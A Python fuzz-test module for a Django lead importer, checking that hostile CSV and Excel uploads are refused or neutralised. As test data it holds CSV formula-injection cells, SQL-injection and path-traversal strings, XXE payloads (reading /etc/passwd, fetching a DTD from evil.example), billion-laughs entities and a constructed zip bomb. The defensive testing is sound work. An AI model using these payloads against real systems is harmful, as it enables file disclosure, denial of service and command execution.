"""Hostile files into the importer: never a crash, never a silent loss.

Whatever bytes arrive, ``read_table`` either refuses the whole file with
``UnreadableFile`` (the sentence the upload form and the command show) or returns
rows; ``inquiries_import`` then accounts for every data row (imported +
duplicates + rejected == rows read), each rejected row with its row number and a
reason. What is stored must also be storable on PostgreSQL (no NUL, no lone
surrogate, strict JSON, within each column's length) although these tests run
on SQLite. Property-based with hypothesis; the payloads that must be refused
(zip bombs, XML entities, oversized files, too many rows) are spelled out below.
"""

import csv
import io
import json
import os
import re
import struct
import zipfile
from contextlib import contextmanager
from datetime import date, datetime, time, timedelta
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models, transaction
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from leads import importer, services
from leads.exporting import FORMULA_PREFIXES, export_inquiries
from leads.importer import PRESETS, UnreadableFile, detect_preset, read_table
from leads.models import (
    Company,
    CompanyKey,
    ContactChannel,
    ImportBatch,
    Inquiry,
    Person,
)
from tests.factories import CompanyFactory, InquiryFactory

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports"

# The same examples on every CI run, so that a red build means a regression;
# LEADQUAL_FUZZ_RANDOM=1 explores new ones (run it when changing the importer or API).
DERANDOMIZE = not os.environ.get("LEADQUAL_FUZZ_RANDOM")
FUZZ = settings(
    max_examples=150, deadline=None, database=None, derandomize=DERANDOMIZE,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                           HealthCheck.data_too_large, HealthCheck.large_base_example],
)

# --- what hostile exports contain -------------------------------------------------------------

HEADERS = sorted(
    {spelling for preset in PRESETS.values() for spellings in preset.values()
     for spelling in spellings}
)
# Cells a spreadsheet would run (OWASP CSV injection) and text that breaks naive code.
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "+1 415 555 0100",
    "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
]
NASTY = [
    "", " ", "\x00", "a\x00b", "\u202egnp.exe", "\u200b", "\ufeff", "\u2028", "\x85", "\x1c",
    '"', '""', "'", "'quoted'", '"unclosed', "a\r\nb", "\r", "\n", ",", ";", "|", "\t", "_x0000_",
    "__error__", "__extra__", "NaN", "inf", "-0", "1e999", "0001-01-01", "0001-01-01T00:00+14:00",
    "1900-01-01", "1970-01-01 00:00", "9999-12-31 23:59", "2025-02-30", "01/02/2025",
    "13/13/2025", "Robert'); DROP TABLE leads_inquiry;--", "<script>alert(1)</script>",
    "{{ 7|add:7 }}", "%s%s%n", "../../etc/passwd", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "ﷺ", "İ", "ß" * 130, "ﬃ" * 120,
    "Z̷̢͙͎̈́a̵l̶g̸o", "中文询盘", "😀" * 60,
]
# Values the columns expect, so that rows also get imported, duplicated and mixed.
PLAUSIBLE = [
    "ana@aquisouza.com.br", "jonas@klarwasser.de", "wang.fang@sgpure.com.sg", "bob@", "a@b",
    "+49 30 1234567", "13800138000", "AL2025000001", "MIC300000001", "2025-03-04 10:20",
    "2025/03/04", "04.03.2025", "2025年3月4日", "Deutschland", "德国", "US", "Atlantis",
    "alibaba", "made in china", "web", "martian", "UV lamp 320W", "40 pieces",
]


def huge(size: int) -> st.SearchStrategy[str]:
    return st.sampled_from(["x", "询", "a\r\nb "]).map(lambda unit: unit * (size // len(unit)))


TEXT = st.one_of(
    st.sampled_from(NASTY + FORMULAS),
    st.sampled_from(PLAUSIBLE),
    st.text(max_size=30),  # any code point but surrogates: NUL, controls, RTL, combining
    st.emails(),
)
# Now and then a cell longer than the csv module's default limit (128 KiB) or MAX_MESSAGE.
CELL = st.integers(0, 30).flatmap(
    lambda n: st.sampled_from([20_001, 131_073]).flatmap(huge) if n == 0 else TEXT
)
HEADER = st.one_of(
    st.sampled_from(HEADERS), st.sampled_from(["", " ", "__error__", "__extra__", "EMAIL:"]),
    st.text(max_size=12),
)


def blank(value) -> bool:
    return value is None or (isinstance(value, str) and not value.replace("\x00", "").strip())


# A generic export whose cells are mostly what the column expects, so that many rows get
# imported (companies, contacts, keys) with hostile text in the rest.
PHONES = st.sampled_from(["+49 30 1234567", "13800138000", "+1 (415) 555-0100", "", "+"])
VALID = {
    "platform_ref": st.text(min_size=1, max_size=20),
    "email": st.emails(),
    "phone": PHONES,
    "whatsapp": PHONES,
    "country": st.sampled_from(["DE", "Deutschland", "德国", "us", "Viet Nam", ""]),
    "received_at": st.datetimes(min_value=datetime(1990, 1, 1), max_value=datetime(2025, 12, 31))
    .map(lambda moment: moment.strftime("%Y-%m-%d %H:%M")),
    "platform": st.sampled_from(["alibaba", "Made-in-China", "web", "api", ""]),
}


@st.composite
def generic_csv_files(draw):
    """A UTF-8 CSV of generic columns, its cells mostly plausible for their column."""
    columns = ["platform_ref", *draw(st.lists(st.sampled_from([
        "email", "phone", "whatsapp", "company", "buyer_name", "country", "received_at",
        "platform", "website", "product", "message"]), max_size=8, unique=True))]
    rows = draw(st.lists(st.tuples(*[
        st.one_of(VALID.get(column, TEXT), VALID.get(column, TEXT), CELL) for column in columns
    ]), min_size=1, max_size=10))
    buffer = io.StringIO()
    csv.writer(buffer).writerows([columns, *rows])
    return buffer.getvalue().encode("utf-8")


@st.composite
def csv_files(draw):
    """(bytes, (fewest, most) data rows it holds, whether a refusal is acceptable).

    Rows are never lost: at least the non-blank rows come back. With a wrong delimiter a
    row of empty cells (";;") is a row holding ";;", and a quoted line break after the
    real delimiter ends the row; the delimiter is certain only when the header row has
    several cells and none of them holds a delimiter: then so is the number of rows.
    """
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "gb18030", "cp1252"]))

    def representable(text: str) -> str:
        return text.encode(encoding, "replace").decode(encoding)

    headers = [representable(h) for h in draw(st.lists(HEADER, min_size=1, max_size=8))]
    rows = [
        [representable(cell) for cell in row]
        for row in draw(st.lists(st.lists(CELL, max_size=len(headers) + 3), max_size=10))
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=draw(st.sampled_from([",", ";", "\t", "|"])),
                        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])))
    writer.writerow(headers)
    writer.writerows(rows)
    data_rows = sum(1 for row in rows if not all(blank(cell) for cell in row))
    empty_cells = sum(1 for row in rows if len(row) > 1 and all(blank(cell) for cell in row))
    certain = len(headers) > 1 and not any(set(h) & set(',;\t|"\r\n') for h in headers)
    most = data_rows + empty_cells if certain else None
    refusable = (all(blank(h) for h in headers) or not data_rows
                 or encoding in ("gb18030", "cp1252"))  # the encoding may go unrecognised
    return buffer.getvalue().encode(encoding), (data_rows, most), refusable


ERRORS = ["#N/A", "#DIV/0!", "#REF!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"]
XLSX_CELL = st.one_of(
    TEXT.map(lambda text: ILLEGAL_CHARACTERS_RE.sub("", text)),
    st.none(), st.booleans(), st.integers(-(10**15), 10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(min_value=datetime(1900, 3, 1)), st.dates(min_value=date(1900, 3, 1)),
    st.times(), st.timedeltas(min_value=timedelta(0), max_value=timedelta(days=999)),
    st.sampled_from(ERRORS),
)


def xlsx_blank(value) -> bool:
    """As read back: a formula written by openpyxl has no cached value."""
    return value in (None, "") or (isinstance(value, str) and value.startswith("=")
                                   and len(value) > 1)


@st.composite
def xlsx_files(draw):
    """(bytes, rows the first sheet holds, whether a refusal is acceptable)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    headers = draw(st.lists(st.one_of(HEADER.map(lambda h: ILLEGAL_CHARACTERS_RE.sub("", h)),
                                      XLSX_CELL), max_size=8))
    rows = draw(st.lists(st.lists(XLSX_CELL, max_size=len(headers) + 3), max_size=10))
    for row in [headers, *rows]:
        sheet.append(row)
    for number in range(draw(st.integers(0, 3))):  # more sheets; only the first is read
        other = workbook.create_sheet(f"Sheet {number + 2}")
        for row in draw(st.lists(st.lists(XLSX_CELL, max_size=3), max_size=3)):
            other.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    data_rows = sum(1 for row in rows if not all(xlsx_blank(cell) for cell in row))
    header_texts = [str(h).strip() for h in headers if not xlsx_blank(h)]
    return buffer.getvalue(), (data_rows, data_rows), not any(header_texts) or not data_rows


def workbook_bytes(rows) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, member: str, text: str | bytes) -> bytes:
    """``data`` (a workbook) with one member replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(
            buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, text if name == member else source.read(name))
    return buffer.getvalue()


# --- read_table: read or refused as a whole, every row counted --------------------------------


def assert_read_as_promised(data: bytes, filename: str, data_rows: tuple[int, int | None],
                            refusable: bool):
    try:
        table = read_table(data, filename=filename)
    except UnreadableFile as exc:
        assert str(exc).strip()
        assert refusable, f"a readable file was refused: {exc}"
        return None
    fewest, most = data_rows
    assert fewest <= len(table.rows) <= (most if most is not None else len(table.rows))
    numbers = [number for number, _ in table.rows]
    assert numbers == sorted(set(numbers)) and all(number >= 2 for number in numbers)
    for _, row in table.rows:
        for key, value in row.items():
            assert "\x00" not in key and "\x00" not in str(value)
    return table


@FUZZ
@given(csv_files())
def test_any_csv_is_read_with_every_row_or_refused_as_a_whole(upload):
    assert_read_as_promised(upload[0], "export.csv", *upload[1:])


@settings(FUZZ, max_examples=100)
@given(xlsx_files())
def test_any_workbook_is_read_with_every_row_or_refused_as_a_whole(upload):
    assert_read_as_promised(upload[0], "export.xlsx", *upload[1:])


def mutations():
    """A real workbook with bytes flipped, cut or inserted: what a broken download gives."""
    original = (FIXTURES / "generic.xlsx").read_bytes()

    @st.composite
    def mutate(draw):
        data = bytearray(original)
        for _ in range(draw(st.integers(1, 8))):
            if len(data) < 5:
                break
            at = draw(st.integers(0, len(data) - 1))
            action = draw(st.sampled_from(["flip", "cut", "insert", "truncate"]))
            if action == "flip":
                data[at] ^= draw(st.integers(1, 255))
            elif action == "cut":
                del data[at:at + draw(st.integers(1, 64))]
            elif action == "insert":
                data[at:at] = draw(st.binary(min_size=1, max_size=64))
            else:
                del data[max(at, 4):]
        return bytes(data)

    return mutate()


# Pieces of SpreadsheetML that a forged or broken sheet gets wrong.
SHEET_SNIPPETS = [
    '<row r="7">', "</row>", '<row r="1048577">', '<c r="B9" t="n"><v>x</v></c>', ' t="s"',
    ' t="d"', ' t="e"', ' t="b"', ' t="str"', "<v>1E999</v>", "<v>NaN</v>", "<v>-1</v>",
    ' r="XFD1048576"', ' r="A0"', ' r="!"', "&amp;", "&#0;", "&#xD800;", "<![CDATA[=1+1]]>",
    '<f>SUM(A1:A2)</f>', "<is><t>x</t></is>", '<!DOCTYPE x [<!ENTITY a "b">]>', "&a;",
    '<dimension ref="A1:XFD1048576"/>', "\x00", "é", "<",
]


@st.composite
def sheet_mutations(draw):
    """A workbook whose sheet XML is cut, repeated or spliced with SpreadsheetML pieces:
    openpyxl reads a sheet lazily, so these fail while rows are read, not when opened."""
    data = workbook_bytes([
        ["email", "received_at", "quantity", "message"],
        ["a@aqua.example", datetime(2025, 3, 4, 10, 20), 40, "=HYPERLINK(\"x\")"],
        ["b@aqua.example", date(2025, 3, 5), 1.5, "#N/A"],
    ])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, len(xml)))
        action = draw(st.sampled_from(["insert", "insert", "cut", "repeat"]))
        if action == "insert":
            xml = xml[:at] + draw(st.sampled_from(SHEET_SNIPPETS)) + xml[at:]
        elif action == "cut":
            xml = xml[:at] + xml[at + draw(st.integers(1, 40)):]
        else:
            xml = xml[:at] + xml[at:at + draw(st.integers(1, 200))] * 2 + xml[at:]
    return rewrite(data, "xl/worksheets/sheet1.xml", xml.encode("utf-8", "surrogatepass"))


@FUZZ
@given(st.one_of(
    mutations(), sheet_mutations(), st.binary(max_size=2000),
    st.binary(max_size=2000).map(lambda tail: b"PK\x03\x04" + tail),
))
def test_broken_or_random_bytes_named_xlsx_are_refused_not_a_crash(data):
    try:
        table = read_table(data, filename="export.xlsx")
    except UnreadableFile as exc:
        assert str(exc).strip()
    else:
        assert table.file_format == "xlsx" and table.rows
        # Each row is stored as its inquiry's raw copy (JSON, strict on PostgreSQL).
        json.dumps([services._json_safe(row) for _, row in table.rows], allow_nan=False)


# --- inquiries_import: imported + duplicates + rejected == rows -------------------------------


@contextmanager
def rolled_back():
    """One hypothesis example's rows never reach the next example."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


STORED = (Inquiry, Company, CompanyKey, ContactChannel, Person, ImportBatch)


def assert_storable_on_postgresql():
    """What SQLite accepts but PostgreSQL refuses: NUL, lone surrogates, NaN in JSON, and
    text longer than its column."""
    for model in STORED:
        fields = [f for f in model._meta.concrete_fields
                  if isinstance(f, (models.CharField, models.TextField, models.JSONField))]
        for obj in model.objects.all():
            for field in fields:
                value = getattr(obj, field.attname)
                text = (json.dumps(value, allow_nan=False, ensure_ascii=False)
                        if isinstance(field, models.JSONField) else value)
                where = f"{model.__name__}.{field.name}"
                assert "\x00" not in text and "\\u0000" not in text, where
                text.encode("utf-8")  # a lone surrogate cannot be encoded
                if isinstance(field, models.CharField):
                    assert len(text) <= field.max_length, (where, len(text))


def assert_every_row_accounted_for(table, batch):
    batch.refresh_from_db()
    total = batch.imported_count + batch.duplicate_count + batch.rejected_count
    assert total == len(table.rows)
    assert Inquiry.objects.filter(batch=batch).count() == batch.imported_count
    numbers = {number for number, _ in table.rows}
    rejected = [entry["row"] for entry in batch.rejected_rows]
    assert len(rejected) == len(set(rejected)) == batch.rejected_count
    for entry in batch.rejected_rows:
        assert entry["row"] in numbers
        assert isinstance(entry["reason"], str) and entry["reason"].strip(), entry


def first(values: tuple):
    return values[0]


@FUZZ
@given(st.one_of(csv_files().map(first), generic_csv_files(), xlsx_files().map(first)))
def test_every_data_row_is_imported_a_duplicate_or_rejected_with_a_reason(db, data):
    try:
        table = read_table(data, filename="export")
    except UnreadableFile:
        return
    with rolled_back():
        batch = services.inquiries_import(
            table=table, preset=detect_preset(table.headers), source=ImportBatch.Source.UPLOAD,
            filename="export",
        )
        assert_every_row_accounted_for(table, batch)
        assert_storable_on_postgresql()
        event(f"imported {'some' if batch.imported_count else 'none'}")
        event(f"rejected {'some' if batch.rejected_count else 'none'}")


@settings(FUZZ, max_examples=40)
@given(st.lists(st.lists(CELL, min_size=1, max_size=6), min_size=1, max_size=6))
def test_reimporting_a_file_adds_nothing(db, rows):
    headers = ["platform_ref", "received_at", "email", "phone", "company", "message"]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([headers, *rows])
    try:
        table = read_table(buffer.getvalue().encode("utf-8"))
    except UnreadableFile:
        return
    with rolled_back():
        first = services.inquiries_import(table=table, preset="generic", source="upload")
        again = services.inquiries_import(table=table, preset="generic", source="upload")
        assert again.imported_count == 0
        assert again.duplicate_count == first.imported_count + first.duplicate_count
        assert again.rejected_count == first.rejected_count
        assert Inquiry.objects.count() == first.imported_count


# --- through the upload form ------------------------------------------------------------------


def upload(client, data: bytes, name: str):
    return client.post(reverse("leads:import"), {
        "file": SimpleUploadedFile(name, data, content_type="application/octet-stream"),
        "preset": "auto",
    })


@settings(FUZZ, max_examples=40)
@given(st.one_of(csv_files().map(first), xlsx_files().map(first), mutations(),
                 sheet_mutations()),
       st.sampled_from(["export.csv", "export.xlsx", "export.txt", "ex\u202eslx.csv",
                        "../../x.csv", "a\x00b.csv", "unnamed"]))
def test_the_upload_form_never_fails_with_a_server_error(client, rep, data, name):
    client.force_login(rep)
    with rolled_back():
        response = upload(client, data, name)
        assert response.status_code in (200, 302)
        if response.status_code == 200:  # refused, and the form says why
            page = response.content.decode()
            assert ("This file cannot be read" in page if data
                    else "The submitted file is empty." in page)
            assert not ImportBatch.objects.exists()
        else:
            assert_storable_on_postgresql()


# --- payloads refused, with the message a user sees -------------------------------------------


def test_openpyxl_parses_xml_with_defusedxml():
    assert openpyxl.DEFUSEDXML is True


BILLION_LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER_ENTITY = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'


@pytest.mark.parametrize("member", [
    "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml",
    "[Content_Types].xml", "xl/_rels/workbook.xml.rels", "docProps/core.xml",
])
@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_xml_entities_in_a_workbook_are_refused_unread(member, payload):
    original = (FIXTURES / "generic.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        assert member in archive.namelist()
        xml = archive.read(member).decode("utf-8")
    declaration = re.match(r"<\?xml[^>]*\?>", xml)
    head = declaration.group(0) if declaration else ""
    text = head + payload + xml[len(head):]
    reference = {BILLION_LAUGHS: "&lol9;", EXTERNAL_ENTITY: "&xxe;"}.get(payload)
    if member == "xl/worksheets/sheet1.xml" and reference:  # a cell that uses the entity
        text = re.sub(r"<(t|v)>[^<]*</\1>", rf"<\1>{reference}</\1>", text, count=1)
        assert reference in text
    with pytest.raises(UnreadableFile) as refused:
        read_table(rewrite(original, member, text), filename="evil.xlsx")
    assert str(refused.value) == (
        "the workbook contains XML entity declarations, which are refused as unsafe "
        "(open it in Excel and save it again)"
    )
    assert "root:" not in str(refused.value)


def test_a_zip_bomb_is_refused_by_how_much_it_unpacks_before_reading():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with zipfile.ZipFile(io.BytesIO((FIXTURES / "generic.xlsx").read_bytes())) as original:
            for name in original.namelist():
                archive.writestr(name, original.read(name))
        archive.writestr("xl/media/padding.bin", b"\0" * (30 * 1024 * 1024))
    data = bomb.getvalue()
    assert len(data) < 100 * 1024
    with pytest.raises(UnreadableFile) as refused:
        read_table(data, filename="bomb.xlsx")
    assert re.fullmatch(
        r"the workbook would unpack to 30\.0 MB from \d+ KB \(\d+ times its size\); Leadqual "
        r"opens at most 200 MB and 200 times the file's size, so it was refused as a possible "
        r"zip bomb", str(refused.value)), refused.value


def test_a_workbook_that_unpacks_to_more_than_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(importer, "MAX_XLSX_UNPACKED", 2 * 1024 * 1024)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with zipfile.ZipFile(io.BytesIO((FIXTURES / "generic.xlsx").read_bytes())) as original:
            for name in original.namelist():
                archive.writestr(name, original.read(name))
        archive.writestr("xl/media/photo.bin", os.urandom(3 * 1024 * 1024))  # incompressible
    with pytest.raises(UnreadableFile, match=r"the workbook would unpack to 3\.0 MB from \d+ KB "
                                             r"\(1 times its size\); Leadqual opens at most 2 MB"):
        read_table(buffer.getvalue(), filename="photos.xlsx")


def test_a_zip_that_hides_its_real_size_is_refused_while_reading():
    """The sizes in a zip's directory are the sender's word: a member that unpacks to more
    than it declares is cut off at the declared size and fails its checksum."""
    sheet = workbook_bytes([["email", "message"], ["a@aqua.example", "x" * 1_000_000]])
    with zipfile.ZipFile(io.BytesIO(sheet)) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    data, name = bytearray(sheet), info.filename.encode()
    # The declared size sits in the local header and in the central directory.
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = data.find(signature)
        while start != -1:
            if data[start + name_at:start + name_at + len(name)] == name:
                data[start + size_at:start + size_at + 4] = struct.pack("<I", 2000)
            start = data.find(signature, start + 4)
    with pytest.raises(UnreadableFile, match="the workbook (is damaged|cannot be opened)"):
        read_table(bytes(data), filename="liar.xlsx")


SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c></row>'


@pytest.mark.parametrize(("cells", "words"), [
    ('<row r="2"><c r="A2" t="n"><v>abc</v></c></row>', "the workbook is damaged"),
    ('<row r="2"><c r="A2" t="s"><v>99</v></c></row>', "the workbook is damaged"),
    ('<row r="2"><c r="A2" t="d"><v>soon</v></c></row>', "the workbook is damaged"),
    ('<row r="2"><c r="!!" t="inlineStr"><is><t>x</t></is></c></row>', "the workbook is damaged"),
    ('<row r="2"><c r="A2" t="inlineStr"><is><t>a@aqua.example</t></is></c></row><row',
     "the workbook cannot be opened"),
    ('<row r="99999999"><c r="A99999999" t="inlineStr"><is><t>a@aqua.example</t></is></c></row>',
     "the sheet goes on past row 1,048,576, Excel's last row"),
], ids=["number-not-a-number", "missing-shared-string", "date-not-a-date", "bad-cell-ref",
        "cut-off", "row-beyond-excel"])
def test_a_forged_sheet_is_refused(cells, words):
    xml = f"{SHEET}<sheetData>{HEADER_ROW}{cells}</sheetData></worksheet>"
    if cells.endswith("<row"):
        xml = f"{SHEET}<sheetData>{HEADER_ROW}{cells}"
    data = rewrite(workbook_bytes([["email"], ["a@aqua.example"]]), "xl/worksheets/sheet1.xml",
                   xml)
    with pytest.raises(UnreadableFile, match=re.escape(words)):
        read_table(data, filename="forged.xlsx")


def test_a_workbook_without_a_worksheet_is_refused():
    data = workbook_bytes([["email"], ["a@aqua.example"]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/workbook.xml").decode()
    data = rewrite(data, "xl/workbook.xml", re.sub(r"<sheets>.*</sheets>", "<sheets/>", xml))
    with pytest.raises(UnreadableFile, match="the workbook has no worksheet"):
        read_table(data, filename="empty.xlsx")


def test_a_sheet_that_understates_its_size_is_read_in_full():
    """Some exporters write a wrong <dimension>; openpyxl's read-only mode trusts it."""
    rows = [["email", "message"]] + [[f"buyer{n}@aqua.example", "hi"] for n in range(10)]
    data = workbook_bytes(rows)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    for ref in ("A1:B2", "A1", "C5:D6"):
        wrong = rewrite(data, "xl/worksheets/sheet1.xml",
                        re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', xml))
        table = read_table(wrong, filename="export.xlsx")
        assert table.headers == ["email", "message"]
        assert [number for number, _ in table.rows] == list(range(2, 12))


def test_upload_over_the_size_limit_gets_its_size_and_the_limit(client, rep, settings):
    settings.IMPORT_MAX_BYTES = 2 * 1024 * 1024
    client.force_login(rep)
    response = upload(client, b"email\r\n" + b"a@aqua.example\r\n" * 196_608, "big.csv")
    assert response.status_code == 200
    assert ("The file is 3.0 MB; the limit is 2 MB. Split it and upload the parts."
            in response.content.decode())
    assert not ImportBatch.objects.exists()


@pytest.mark.parametrize("name", ["many.csv", "many.xlsx"])
def test_upload_over_the_row_limit_gets_the_limit(client, rep, settings, name):
    settings.IMPORT_MAX_ROWS = 3
    client.force_login(rep)
    rows = [["email"]] + [[f"buyer{n}@aqua.example"] for n in range(4)]
    data = (workbook_bytes(rows) if name.endswith(".xlsx")
            else "\r\n".join(row[0] for row in rows).encode())
    response = upload(client, data, name)
    assert response.status_code == 200
    assert ("This file cannot be read: the file has more than 3 rows, the most one import "
            "takes; split it and import the parts" in response.content.decode())
    assert not ImportBatch.objects.exists()


# --- hostile CSV shapes, one by one -----------------------------------------------------------


STRAY_QUOTE = 'a quote (") opens a cell here that does not close where a cell ends'


@pytest.mark.parametrize("data", [
    b'email,message\r\na@aqua.example,hi\r\nb@aqua.example,"never closed\r\n'
    b"c@aqua.example,yo\r\nd@aqua.example,hey\r\n",
    b'email,message\r\na@aqua.example,hi\r\nb@aqua.example,"5 inch\r\n'
    b'c@aqua.example,yo\r\nd@aqua.example,"6" pipes\r\n',
], ids=["never-closed", "closed-mid-cell-two-rows-later"])
def test_a_stray_quote_is_reported_on_its_row_and_the_rows_after_it_are_read(data):
    rows = dict(read_table(data).rows)
    assert rows[2] == {"email": "a@aqua.example", "message": "hi"}
    assert rows[3] == {"__error__": f"{STRAY_QUOTE}; fix the quotes and import this row again"}
    assert rows[4] == {"email": "c@aqua.example", "message": "yo"}
    assert rows[5]["email"] == "d@aqua.example"


def test_a_quoted_line_break_is_still_one_cell():
    data = b'email,message\r\na@aqua.example,"two\r\nlines, ""quoted"""\r\nb@aqua.example,hi\r\n'
    assert read_table(data).rows == [
        (2, {"email": "a@aqua.example", "message": 'two\r\nlines, "quoted"'}),
        (3, {"email": "b@aqua.example", "message": "hi"}),
    ]


def test_a_file_of_quotes_left_open_is_refused():
    """Each line ends by opening a quote that the next line's first quote closes: every
    record runs to the end of the file, and each would cost another read of it."""
    data = b"email,message\r\n" + b'a@aqua.example 5",",\r\n' * 20
    with pytest.raises(UnreadableFile, match="more than 10 quoted cells are never closed"):
        read_table(data)


PLAIN = st.text("abcdefghijklmnopqrstuvwxyz0123456789@.-中文", min_size=1, max_size=12)


@FUZZ
@given(st.lists(st.lists(PLAIN, min_size=1, max_size=4), min_size=1, max_size=12),
       st.data())
def test_stray_quotes_never_join_rows(rows, data):
    """A quote typed at the start of a cell, closed by none or by one typed elsewhere:
    each line is still one row, read or reported on its own number."""
    quoted = set()
    lines = ["email,message,country,phone"]
    for number, row in enumerate(rows, start=2):
        cells = [('"' + cell) if data.draw(st.integers(0, 4)) == 0 else cell for cell in row]
        if sum(cell.startswith('"') for cell in cells) % 2:
            quoted.add(number)
        lines.append(",".join(cells))
    table = read_table("\r\n".join(lines).encode() + b"\r\n")
    assert [number for number, _ in table.rows] == list(range(2, len(rows) + 2))
    reported = {number for number, row in table.rows if "__error__" in row}
    assert reported <= quoted
    assert all(STRAY_QUOTE in row["__error__"] for _, row in table.rows if "__error__" in row)


def test_nul_characters_are_dropped():
    table = read_table(b"email,mess\x00age\r\na@aqua.example,he\x00llo\r\n")
    assert table.rows == [(2, {"email": "a@aqua.example", "message": "hello"})]


@pytest.mark.parametrize("header", ["__error__", "__extra__"])
def test_a_column_named_like_a_marker_is_data(db, header):
    table = read_table(f"email,{header}\r\na@aqua.example,\r\nb@aqua.example,x\r\n".encode())
    batch = services.inquiries_import(table=table, preset="generic", source="upload")
    assert (batch.imported_count, batch.rejected_count) == (2, 0)
    assert Inquiry.objects.get(email="b@aqua.example").raw[f"{header} (column)"] == "x"


def test_repeated_headers_keep_the_first_filled_value_and_the_others_in_the_raw_row():
    table = read_table(b"email,email,message,message\r\n,a@aqua.example,hi,again\r\n")
    assert table.rows == [(2, {"email": "a@aqua.example", "message": "hi",
                               "__extra__": ["again"]})]


def test_a_field_longer_than_the_csv_module_allows_is_a_rejected_row_not_a_split_one(db):
    message = "line\r\n" * 40_000 + "end"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["email", "message"], ["a@aqua.example", message],
                                  ["b@aqua.example", "hi"]])
    table = read_table(buffer.getvalue().encode())
    assert [number for number, _ in table.rows] == [2, 3]
    batch = services.inquiries_import(table=table, preset="generic", source="upload")
    assert batch.rejected_rows[0]["row"] == 2
    assert "message is 200003 characters long (at most 20000)" in batch.rejected_rows[0]["reason"]


@pytest.mark.parametrize("value", ["0001-01-01", "0001-01-01T00:00:00+14:00", "1970-01-01"])
def test_dates_before_1990_are_rejected_not_stored(db, value):
    table = read_table(f"email,received_at\r\na@aqua.example,{value}\r\n".encode())
    batch = services.inquiries_import(table=table, preset="generic", source="upload")
    assert batch.rejected_count == 1
    assert "before 1990" in batch.rejected_rows[0]["reason"]


def test_workbook_cells_of_every_type_are_stored_as_json(db):
    data = workbook_bytes([
        ["email", "received_at", "quantity", "message", "product", "phone"],
        ["a@aqua.example", datetime(2025, 3, 4, 10, 20), 1e300, time(10, 30),
         timedelta(days=2), "#N/A"],
        ["b@aqua.example", date(2025, 3, 4), True, -0.5, None, 13800138000],
    ])
    table = read_table(data, filename="types.xlsx")
    with rolled_back():
        batch = services.inquiries_import(table=table, preset="generic", source="upload")
        assert_every_row_accounted_for(table, batch)
        assert batch.imported_count == 1
        assert batch.rejected_rows[0]["row"] == 2
        assert batch.rejected_rows[0]["reason"] == "quantity is 301 characters long (at most 100)"
        assert_storable_on_postgresql()


def test_a_company_name_that_grows_when_casefolded_still_fits_its_key(db):
    name = "ﬃ" * 255  # casefolds to "ffi" * 255: 765 characters
    table = read_table(f"platform_ref,company\r\nAL1,{name}\r\n".encode())
    with rolled_back():
        batch = services.inquiries_import(table=table, preset="generic", source="upload")
        assert batch.imported_count == 1
        assert_storable_on_postgresql()


# --- exported CSV: a cell a spreadsheet would run is made inert -------------------------------

# Text as it may sit in the database (the factory skips intake, which strips whitespace).
STORED_TEXT = st.one_of(
    st.sampled_from(FORMULAS + NASTY), st.text(max_size=30),
    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.text(max_size=20)).map("".join),
).map(lambda text: text.replace("\x00", ""))
EXPORTED = ["buyer_name", "company_name", "phone", "whatsapp", "website", "product",
            "quantity", "message"]


def inert(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value
